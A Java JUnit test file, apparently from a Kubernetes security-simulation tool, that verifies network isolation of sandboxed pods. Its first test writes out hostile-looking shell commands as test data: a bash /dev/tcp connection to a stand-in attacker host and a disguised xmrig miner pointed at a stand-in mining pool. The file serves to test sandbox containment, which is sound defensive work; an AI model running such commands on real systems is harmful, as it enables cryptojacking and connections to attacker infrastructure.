// SPDX-License-Identifier: Apache-2.0
package io.kguard.internal.sandbox.runtime;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.PodBuilder;
import io.kguard.internal.sandbox.ExecSession;
import io.kguard.internal.sandbox.ExecSpec;
import io.kguard.internal.sandbox.PodListener;
import io.kguard.internal.sandbox.PodSandbox;
import io.kguard.internal.sandbox.PodSetup;
import io.kguard.internal.sandbox.Sandbox;
import io.kguard.requirement.RequiresRoot;
import io.kguard.simulation.SimulatorOptions;
import io.kguard.workload.Ipv4;
import io.kguard.workload.Peer;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

@RequiresRoot
@Timeout(300)
class PodNetworkTest {
    static Sandbox sandbox;

    @BeforeAll
    static void open() {
        sandbox = Sandboxes.open(SimulatorOptions.configured().sandbox());
    }

    @AfterAll
    static void close() {
        sandbox.close();
    }

    @Test
    void peersAnswerByAddressAndByName() {
        try (PodSandbox pod = sandbox.start(Pods.sleeping(), PodListener.NONE)) {
            assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/10.96.0.1/443 && echo connected")
                            .stdout())
                    .isEqualTo("connected\n");
            assertThat(Pods.bash(pod, "kguard-actor connect pool.minexmr.example 3333 hello")
                            .stdout())
                    .contains("\"status\":\"OK\"");
            assertThat(Pods.bash(
                                    pod,
                                    "cp /usr/bin/kguard-actor /tmp/xmrig;"
                                            + " /tmp/xmrig -o stratum+tcp://pool.minexmr.example:3333 -u wallet")
                            .exitStatus())
                    .isZero();
            assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/attacker.example/80; echo GET >&3; cat <&3")
                            .stdout())
                    .startsWith("HTTP/1.0 200 OK");
        }
    }

    @Test
    void peersSeeThePodsAddress() {
        try (PodSandbox pod = sandbox.start(Pods.sleeping(), PodListener.NONE)) {
            assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/10.96.0.1/443; cat /proc/net/tcp")
                            .stdout())
                    .contains(hex(pod.ip()) + ":");
        }
    }

    private static String hex(String ip) {
        long number = Ipv4.toNumber(ip);
        return "%08X".formatted(Integer.reverseBytes((int) number));
    }

    @Test
    void nothingElseIsReached() {
        try (PodSandbox pod = sandbox.start(Pods.sleeping(), PodListener.NONE)) {
            assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/8.8.8.8/53").stderr()).contains("Network is unreachable");
            assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/10.96.0.1/22").stderr()).contains("Connection refused");
        }
    }

    @Test
    void noAddressOfTheMachineIsReached() throws Exception {
        List<String> addresses = new ArrayList<>();
        for (NetworkInterface own : Collections.list(NetworkInterface.getNetworkInterfaces())) {
            own.inetAddresses()
                    .filter(Inet4Address.class::isInstance)
                    .map(InetAddress::getHostAddress)
                    .forEach(addresses::add);
        }
        assertThat(addresses).contains("127.0.0.1");
        try (ServerSocketChannel server = ServerSocketChannel.open();
                DatagramChannel datagrams = DatagramChannel.open();
                PodSandbox pod = sandbox.start(onTheHostsNetwork(), PodListener.NONE)) {
            server.bind(new InetSocketAddress("0.0.0.0", 0)).configureBlocking(false);
            int port = server.socket().getLocalPort();
            datagrams.bind(new InetSocketAddress("0.0.0.0", port)).configureBlocking(false);
            for (String address : addresses) {
                assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/" + address + "/" + port)
                                .exitStatus())
                        .as(address)
                        .isNotZero();
                Pods.bash(pod, "echo hello > /dev/udp/" + address + "/" + port);
            }
            assertThat(server.accept()).isNull();
            assertThat(datagrams.receive(ByteBuffer.allocate(16))).isNull();
        }
    }

    private static Pod onTheHostsNetwork() {
        return new PodBuilder(Pods.with(container ->
                        container.withNewSecurityContext().withPrivileged(true).endSecurityContext()))
                .editSpec()
                .withHostNetwork(true)
                .endSpec()
                .build();
    }

    @Test
    void thereIsNoWayOut() {
        try (PodSandbox pod = sandbox.start(Pods.sleeping(), PodListener.NONE)) {
            assertThat(Pods.bash(pod, "cat /proc/net/route").stdout().lines().skip(1))
                    .noneMatch(line -> line.split("\t", -1)[1].equals("00000000"));
            assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/kguard.dev/80").stderr())
                    .contains("kguard.dev");
            assertThat(Pods.bash(pod, "echo hello > /dev/udp/10.96.0.10/53 && echo again > /dev/udp/10.96.0.10/53")
                            .exitStatus())
                    .isNotZero();
        }
    }

    /** Abstract sockets belong to a network namespace, and so does the list of all sockets. */
    @Test
    void noUnixSocketOfTheMachineIsSeen(@TempDir Path folder) throws Exception {
        try (ServerSocketChannel server = ServerSocketChannel.open(StandardProtocolFamily.UNIX);
                PodSandbox pod = sandbox.start(onTheHostsNetwork(), PodListener.NONE)) {
            server.bind(UnixDomainSocketAddress.of(folder.resolve("socket")));
            assertThat(Files.readString(Path.of("/proc/net/unix"))).contains(folder.toString());
            assertThat(Pods.bash(pod, "cat /proc/net/unix").stdout())
                    .startsWith("Num")
                    .doesNotContain(folder.toString());
            assertThat(Pods.bash(pod, "readlink /proc/self/ns/net").stdout().strip())
                    .startsWith("net:")
                    .isNotEqualTo(
                            Files.readSymbolicLink(Path.of("/proc/self/ns/net")).toString());
        }
    }

    @Test
    void aServerOfTheJvmIsReachedThroughARelay() throws Exception {
        try (ServerSocket server = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
            Thread answering = new Thread(() -> {
                try (Socket connection = server.accept()) {
                    byte[] asked = connection.getInputStream().readNBytes(5);
                    connection.getOutputStream().write(("you said " + new String(asked, UTF_8)).getBytes(UTF_8));
                } catch (java.io.IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
            });
            answering.start();
            InetSocketAddress target = new InetSocketAddress(server.getInetAddress(), server.getLocalPort());
            PodSetup setup = PodSetup.defaults().withPeer(Peer.relay("10.96.0.1", 443, target, "kubernetes"));
            try (PodSandbox pod = sandbox.start(Pods.sleeping(), setup, PodListener.NONE)) {
                assertThat(Pods.bash(pod, "kguard-actor connect kubernetes 443 hello")
                                .stdout())
                        .isEqualTo("you said hello");
                assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/127.0.0.1/" + server.getLocalPort())
                                .exitStatus())
                        .isNotZero();
            }
            answering.join();
        }
    }

    @Test
    void podsDoNotSeeEachOther() {
        try (PodSandbox one = sandbox.start(Pods.sleeping(), PodListener.NONE);
                PodSandbox other = sandbox.start(Pods.sleeping(), PodListener.NONE)) {
            try (ExecSession listener = one.container("").open(ExecSpec.of("kguard-actor", "listen", "8080", "30"))) {
                assertThat(Pods.bash(other, "exec 3<>/dev/tcp/" + one.ip() + "/8080")
                                .exitStatus())
                        .isNotZero();
                assertThat(listener.exit()).isNotDone();
            }
        }
    }

    @Test
    void theContainersOfAPodShareItsNetwork() {
        var pod = new PodBuilder(Pods.sleeping())
                .editSpec()
                .addNewContainer()
                .withName("web")
                .withImage("base")
                .withCommand("kguard-actor", "listen", "8080", "1000")
                .endContainer()
                .endSpec()
                .build();
        try (PodSandbox started = sandbox.start(pod, PodListener.NONE)) {
            assertThat(Pods.bash(started, "until exec 3<>/dev/tcp/localhost/8080; do :; done 2>/dev/null; echo there")
                            .stdout())
                    .isEqualTo("there\n");
            assertThat(started.exec("web", ExecSpec.of("cat", "/proc/net/tcp")).stdout())
                    .contains(":1F90");
        }
    }
}
